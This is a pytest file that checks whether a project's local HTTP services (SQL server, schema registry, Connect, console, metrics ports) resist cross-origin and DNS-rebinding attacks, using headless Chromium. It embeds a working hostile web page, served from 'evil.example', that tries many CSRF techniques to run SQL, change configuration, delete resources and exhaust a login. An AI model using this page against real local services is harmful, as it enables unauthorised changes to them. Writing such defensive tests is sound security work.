"""Pages of another origin, in a real browser, try to use each HTTP endpoint, and cannot.

The page is at http://evil.example, which the browser takes for this machine, so that no protection of the
browser's own for local addresses stands before ours. What it has tried it reports to where it came from.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from websockets.sync.server import serve as serve_sockets

from penstock.spark.progress import Watch, _serve_metrics
from penstock.testing import PenstockBroker
from penstock.testing.ports import free_port
from penstock.web.metrics import MetricsSettings
from tests.connect.conftest import Worker
from tests.console.conftest import ConsoleProcess
from tests.registry.conftest import Registries, wait_until

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium is installed (apt install chromium)")

NAMES = "MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1"

PAGE = """
<!doctype html><meta charset="utf-8"><title>A prize for you</title>
<script>
const targets = TARGETS;
const sockets = SOCKETS;
async function attempt(run) {
  try { const answer = await run(); return answer.type + " " + answer.status; }
  catch (error) { return "failed"; }
}
function submitted(url, name, value, kind) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: url, enctype: kind, target: frame.name});
    const input = document.createElement("input");
    Object.assign(input, {name: name, value: value});
    form.append(input);
    document.body.append(form);
    frame.onload = () => resolve({type: "shown", status: 0});
    form.submit();
  });
}
function fromSandbox(url, body) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    onmessage = () => resolve({type: "sent", status: 0});
    frame.srcdoc = "<script>fetch(" + JSON.stringify(url) + ", {method: 'POST', mode: 'no-cors', body: "
      + JSON.stringify(body) + "}).finally(() => parent.postMessage('done', '*'))</" + "script>";
    document.body.append(frame);
  });
}
function opened(url) {
  return new Promise(resolve => {
    const socket = new WebSocket(url);
    socket.onopen = () => { resolve("open"); socket.close(); };
    socket.onerror = () => resolve("failed");
  });
}
async function main() {
  const told = {sockets: {}};
  for (const [name, url] of Object.entries(sockets)) told.sockets[name] = await opened(url);
  for (const {name, url, method, body} of targets) {
    const typed = (kind, mode) => attempt(() => fetch(url, {method: "POST", mode, body,
      headers: kind ? {"Content-Type": kind} : {}}));
    const results = told[name] = {};
    results.plain = await typed("text/plain", "no-cors");
    results.form = await typed("application/x-www-form-urlencoded", "no-cors");
    results.untyped = await attempt(() => fetch(url, {method: "POST", mode: "no-cors",
      body: new Blob([body])}));
    results.unreferred = await attempt(() => fetch(url, {method: "POST", mode: "no-cors", body,
      referrerPolicy: "no-referrer"}));
    results.json = await typed("application/json", "cors");
    results.method = await attempt(() => fetch(url, {method, body,
      headers: {"Content-Type": "application/json"}}));
    results.beacon = String(navigator.sendBeacon(url, body));
    const half = body.indexOf('":') + 3;
    const [before, after] = [body.slice(0, half), body.slice(half)];
    results.submitted = await attempt(() => submitted(url, before, after, "text/plain"));
    results.sandboxed = await attempt(() => fromSandbox(url, body));
    results.read = await attempt(() => fetch(url, {mode: "cors"}));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(told)});
}
onload = main;
</script>
"""


class Site:
    """A web site of somebody else, and a server without a guard, which shows that the page really posts."""

    def __init__(self) -> None:
        self.page = ""
        self.report: dict[str, dict[str, str]] | None = None
        self.reported = threading.Event()
        self.posts: list[tuple[str, str | None, str | None]] = []
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.port = self._server.server_port
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(site.page.encode())

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["content-length"] or 0))
                if self.path == "/report":
                    site.report = json.loads(body)
                    site.reported.set()
                else:
                    site.posts.append((self.path, self.headers["content-type"], self.headers["origin"]))
                self._answer(b"")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        return Handler

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()
    yield made
    made.close()


@pytest.fixture(scope="module")
def endpoints(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    """All servers, the metrics ports of a broker and of a pipeline, and the file of statements run."""
    directory = tmp_path_factory.mktemp("endpoints")
    ready_file, executed = directory / "ready.json", directory / "executed"
    registries = Registries(directory)
    users = directory / "users"
    users.write_text("ann: pear, admin\n")
    users.chmod(0o600)
    of_broker = f"127.0.0.1:{free_port()}"
    settings = {"group.initial.rebalance.delay.ms": 0, "penstock.metrics.listener": of_broker}
    with PenstockBroker(settings) as broker:
        with (directory / "sql.log").open("wb") as log:
            sql = subprocess.Popen(
                [sys.executable, "-m", "tests.browser.sql_process", broker.bootstrap, ready_file, executed],
                stdout=log,
                stderr=log,
            )
        port = _serve_metrics(Watch("secret", None), MetricsSettings(0))
        connect = Worker(broker.bootstrap, directory)
        # One login is all that it allows.
        console = ConsoleProcess(
            broker.bootstrap, directory, "--auth-file", str(users), "--max-request-rate", "0.00001"
        )
        try:
            connect.wait()
            registry = registries.start(broker.bootstrap)
            wait_until(lambda: ready_file.exists() or sql.poll() is not None)
            assert sql.poll() is None, (directory / "sql.log").read_text()
            yield {
                "registry": registry.url,
                "sql": json.loads(ready_file.read_text())["sql"],
                "broker": f"http://{of_broker}",
                "pipeline": f"http://127.0.0.1:{port.server_port}",
                "connect": connect.url,
                "console": console.url,
                "executed": str(executed),
            }
        finally:
            console.stop()
            connect.stop()
            port.shutdown()
            port.server_close()
            sql.send_signal(signal.SIGTERM)
            sql.wait(60)
            registries.close()


class Browser:
    """One chromium without a window; ended with all its processes."""

    def __init__(self, directory: Path, *words: str) -> None:
        assert CHROMIUM is not None
        self.process = subprocess.Popen(
            [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
             "--no-first-run", "--disable-background-networking", "--disable-component-update",
             "--disable-sync", "--no-proxy-server", f"--user-data-dir={directory}",
             f"--host-resolver-rules={NAMES}", *words],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )  # fmt: skip

    def __enter__(self) -> Browser:
        return self

    def __exit__(self, *_: object) -> None:
        try:
            os.killpg(self.process.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        self.process.wait()


STATEMENT = json.dumps({"sql": "CREATE FUNCTION f (x INT) RETURNS INT LANGUAGE PYTHON AS $$ x $$;"})
SCHEMA = json.dumps({"schema": '"int"'})
CONNECTOR = json.dumps({"name": "c", "config": {"connector.class": "FileStreamSource", "topic": "t"}})
LOGGER = json.dumps({"level": "DEBUG"})
LOGIN = "user=ann&password=pear"
SOCKET = "/_nicegui_ws/socket.io/?EIO=4&transport=websocket"
LEVEL = json.dumps({"compatibility": "NONE"})
WAYS = {
    "plain",
    "form",
    "untyped",
    "unreferred",
    "json",
    "method",
    "beacon",
    "submitted",
    "sandboxed",
    "read",
}


@pytest.mark.promise(
    "http",
    "A page of another origin, in a real browser, can use neither the SQL server, the registry, Connect, the "
    "console nor the metrics port of a broker or a pipeline",
)
def test_a_page_of_another_origin_can_use_no_endpoint(endpoints, site, tmp_path):
    registry, sql, connect = endpoints["registry"], endpoints["sql"], endpoints["connect"]
    console, broker, pipeline = endpoints["console"], endpoints["broker"], endpoints["pipeline"]
    targets = [
        {"name": "control", "url": f"http://127.0.0.1:{site.port}/control", "method": "PUT", "body": LEVEL},
        {"name": "sql", "url": f"{sql}/sql", "method": "PUT", "body": STATEMENT},
        {"name": "register", "url": f"{registry}/subjects/s/versions", "method": "POST", "body": SCHEMA},
        {"name": "config", "url": f"{registry}/config", "method": "PUT", "body": LEVEL},
        {"name": "delete", "url": f"{registry}/subjects/kept", "method": "DELETE", "body": SCHEMA},
        {"name": "pipeline", "url": f"{pipeline}/admin/loggers/root", "method": "PUT", "body": LOGGER},
        {"name": "broker", "url": f"{broker}/admin/loggers/root", "method": "PUT", "body": LOGGER},
        {"name": "login", "url": f"{console}/login", "method": "PUT", "body": LOGIN},
        {"name": "logout", "url": f"{console}/logout", "method": "PUT", "body": LOGIN},
        {"name": "pages", "url": f"{console}/_nicegui/x", "method": "PUT", "body": LOGIN},
        {
            "name": "polling",
            "url": f"{console}{SOCKET}".replace("=websocket", "=polling"),
            "method": "PUT",
            "body": LOGIN,
        },
        {"name": "create", "url": f"{connect}/connectors", "method": "POST", "body": CONNECTOR},
        {"name": "configure", "url": f"{connect}/connectors/c/config", "method": "PUT", "body": CONNECTOR},
        {"name": "remove", "url": f"{connect}/connectors/c", "method": "DELETE", "body": CONNECTOR},
        {"name": "logger", "url": f"{connect}/admin/loggers/root", "method": "PUT", "body": LOGGER},
    ]
    control = serve_sockets(lambda socket: None, "127.0.0.1", 0)
    threading.Thread(target=control.serve_forever, daemon=True).start()
    sockets = {
        "control": f"ws://127.0.0.1:{control.socket.getsockname()[1]}/",
        "console": f"{console}{SOCKET}".replace("http", "ws", 1),
        "sql": f"{sql}/sql".replace("http", "ws", 1),
    }
    site.page = PAGE.replace("TARGETS", json.dumps(targets)).replace("SOCKETS", json.dumps(sockets))
    with httpx.Client(base_url=registry, trust_env=False) as http:
        assert http.post("/subjects/kept/versions", json={"schema": '"long"'}).status_code == 200
        before = [http.get(path).json() for path in ("/subjects", "/config")]
        with Browser(tmp_path, f"http://evil.example:{site.port}/"):
            assert site.reported.wait(240), "the page did not report"
        control.shutdown()
        assert site.report is not None
        assert site.report.pop("sockets") == {"control": "open", "console": "failed", "sql": "failed"}
        assert site.report.keys() == {each["name"] for each in targets}
        assert all(each.keys() == WAYS for each in site.report.values())
        # The page does what it says: a server without a guard got each of them but the two it asks leave for.
        assert site.report["control"].pop("read") == "failed", "of another origin, so not to be read"
        assert len(site.posts) == 7 and {kind for _, kind, _ in site.posts} >= {
            None,
            "text/plain;charset=UTF-8",
        }
        assert {origin for *_, origin in site.posts} == {f"http://evil.example:{site.port}", "null"}
        for name in site.report.keys() - {"control"}:
            for way in ("json", "method", "read"):
                assert site.report[name][way] == "failed", (name, way)
        assert [http.get(path).json() for path in ("/subjects", "/config")] == before == [["kept"], before[1]]
    with httpx.Client(base_url=connect, trust_env=False) as http:
        assert http.get("/connectors").json() == []
        assert http.get("/admin/loggers/root").json()["level"] != "DEBUG"
    for url in (broker, pipeline):
        level = httpx.get(f"{url}/admin/loggers/root", trust_env=False).json()["level"]
        assert level != "DEBUG" and httpx.get(f"{url}/metrics", trust_env=False).status_code == 200
    # The login that the page could not use up.
    with httpx.Client(base_url=console, trust_env=False) as http:
        form = {"user": "ann", "password": "pear"}
        assert [http.post("/login", data=form).status_code for _ in range(2)] == [303, 429]
    assert not Path(endpoints["executed"]).exists(), "a statement was run"
    answer = httpx.post(f"{sql}/sql", json=json.loads(STATEMENT), trust_env=False)
    assert answer.status_code == 200 and Path(endpoints["executed"]).read_text() == "CreateFunction\n"
    Path(endpoints["executed"]).unlink()


@pytest.mark.promise(
    "http", "A request with a foreign host name that resolves to this machine (DNS rebinding) is rejected"
)
@pytest.mark.parametrize(
    ("endpoint", "path", "secret"),
    [
        ("registry", "/v1/metadata/version", "version"),
        ("sql", "/info", "version"),
        ("broker", "/metrics", "process_resident_memory_bytes"),
        ("pipeline", "/admin/loggers", "root"),
        ("connect", "/", "version"),
        ("console", "/login", "Penstock console|TooManyRequests"),  # its one login may have been taken
    ],
)
def test_a_page_under_a_rebound_name_is_shown_nothing(endpoints, tmp_path, endpoint, path, secret):
    address = endpoints[endpoint].removeprefix("http://127.0.0.1:")

    def shown(host: str) -> str:
        directory = tmp_path / host
        with Browser(directory, "--dump-dom", f"http://{host}:{address}{path}") as browser:
            return browser.process.communicate(timeout=120)[0].decode()

    refused = shown("rebound.example")
    assert "rebound.example" in refused and "does not accept the host name" in refused
    assert re.search(secret, shown("localhost"))
